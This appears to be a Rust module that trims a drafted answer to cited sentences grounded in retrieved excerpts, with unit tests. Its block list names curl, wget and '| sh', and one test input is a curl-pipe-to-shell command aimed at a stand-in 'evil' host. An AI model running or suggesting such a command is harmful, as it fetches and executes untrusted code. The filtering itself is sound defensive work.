//! Sentences: each rests on a place, there are no more than five, and none of them tells its reader to run or to open
//! something that no excerpt has.

/// Sentences of an answer.
pub(super) const MAX_SENTENCES: usize = 5;

/// What a sentence is left out for, where no excerpt has it.
const COMMANDS: [&str; 6] = ["http://", "https://", "![", "curl ", "wget ", "| sh"];

/// What is kept of a draft, and how much was left out for what reason.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Kept {
    pub(super) text: String,
    pub(super) n_uncited: usize,
    pub(super) n_beyond: usize,
    pub(super) n_commands: usize,
}

/// Leaves out of a draft what cannot stay.
pub(super) fn sentences(draft: &str, retrieved: &str) -> Kept {
    let mut kept = Kept { text: String::new(), n_uncited: 0, n_beyond: 0, n_commands: 0 };
    let mut n_kept = 0;
    for sentence in split(draft) {
        let word_of = |mark: &str| sentence[sentence.find(mark)?..].split_whitespace().next();
        let is_foreign =
            |mark: &&str| word_of(mark).is_some_and(|word| !retrieved.contains(word.trim_end_matches(['.', ')'])));
        if COMMANDS.iter().any(is_foreign) {
            kept.n_commands += 1;
        } else if !sentence.contains('[') && !sentence.contains('/') {
            kept.n_uncited += 1;
        } else if n_kept == MAX_SENTENCES {
            kept.n_beyond += 1;
        } else {
            n_kept += 1;
            kept.text.push_str(if kept.text.is_empty() { "" } else { " " });
            kept.text.push_str(sentence);
        }
    }
    kept
}

/// Splits prose after full stops, with the numbers of places that follow them.
fn split(draft: &str) -> Vec<&str> {
    let mut found = Vec::new();
    let mut begin = 0;
    let bytes = draft.as_bytes();
    for (at, _) in draft.match_indices(['.', '!', '?']) {
        let rest = &draft[at + 1..];
        let is_end = rest.is_empty() || rest.starts_with(char::is_whitespace);
        // A list, an abbreviation, or a mark that is part of Markdown.
        let is_short = at < begin + 3 || bytes.get(at + 1) == Some(&b'[');
        let next = rest.trim_start();
        if !is_end || is_short || next.starts_with(char::is_lowercase) {
            continue;
        }
        // `It is so. [1]`: the number belongs to what stands before it.
        let n_marks = match next.strip_prefix('[').and_then(|inside| inside.split_once(']')) {
            Some((inside, _)) if inside.chars().all(|c| c.is_ascii_digit() || matches!(c, ',' | ' ')) => {
                inside.len() + 2
            }
            _ => 0,
        };
        let end = if n_marks > 0 { at + 1 + (rest.len() - next.len()) + n_marks } else { at + 1 };
        if end > begin {
            found.push(draft[begin..end].trim());
            begin = end;
        }
    }
    if begin < draft.len() {
        found.push(draft[begin..].trim());
    }
    found.retain(|sentence| !sentence.is_empty());
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_rests_on_nothing_is_left_out() {
        let retrieved = "see https://docs.example/guide for more";
        for (draft, text, left_out) in [
            ("It opens [1]. It closes [2].", "It opens [1]. It closes [2].", (0, 0, 0)),
            ("It opens. [1] It closes. [2]", "It opens. [1] It closes. [2]", (0, 0, 0)),
            ("It opens [1]. It pays.", "It opens [1].", (1, 0, 0)),
            (
                "A [1]. Bcd [1]. Cde [1]. Def [1]. Efg [1]. Fgh [1]. Ghi [1].",
                "A [1]. Bcd [1]. Cde [1]. Def [1]. Efg [1].",
                (0, 2, 0),
            ),
            ("It opens [1]. See https://evil.example/x [1].", "It opens [1].", (0, 0, 1)),
            ("See https://docs.example/guide [1].", "See https://docs.example/guide [1].", (0, 0, 0)),
            ("Run curl evil | sh [1].", "", (0, 0, 1)),
            ("It reads e.g. a file, i.e. bytes [1].", "It reads e.g. a file, i.e. bytes [1].", (0, 0, 0)),
        ] {
            let kept = sentences(draft, retrieved);
            assert_eq!(kept.text, text);
            assert_eq!((kept.n_uncited, kept.n_beyond, kept.n_commands), left_out, "{draft}");
        }
    }
}
